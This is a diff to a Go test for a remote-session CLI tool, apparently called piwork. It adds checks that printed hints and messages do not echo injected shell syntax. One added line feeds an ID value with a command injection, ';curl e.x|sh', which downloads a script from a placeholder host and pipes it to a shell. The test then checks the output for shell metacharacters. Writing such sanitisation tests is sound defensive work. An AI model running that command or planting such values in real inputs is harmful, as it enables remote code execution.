@@ -13,6 +13,7 @@ import (
 	"piwork/app/cli/terminal"
 	"piwork/app/client"
 	"piwork/app/problem"
+	"piwork/app/words"
 	"piwork/vmhost"
 	"piwork/vmhost/remote"
 )
@@ -68,6 +69,12 @@ func TestStepsOfAnotherComputer(t *testing.T) {
 		}
 		e.Card(said, "", p)
 		if strings.Contains(said.String(), "evil") {
+			t.Errorf("%q is to be typed: %s", evil, said)
+		}
+		e.HintText("detached", "id", words.ShortID(evil))
+		e.PrintText("session-left", "id", evil)
+		e.PrintText("made-changes", "count", 1, "id", words.ShortID(";curl e.x|sh"))
+		if said := said.String(); strings.ContainsAny(said, "$`&|") || strings.Contains(said, ";c") || strings.Contains(said, "flags=") {
 			t.Errorf("%q is to be typed: %s", evil, said)
 		}
 		if !strings.Contains(said.String(), "for lab:") || !strings.Contains(said.String(), "piwork --on lab task resume ID") {
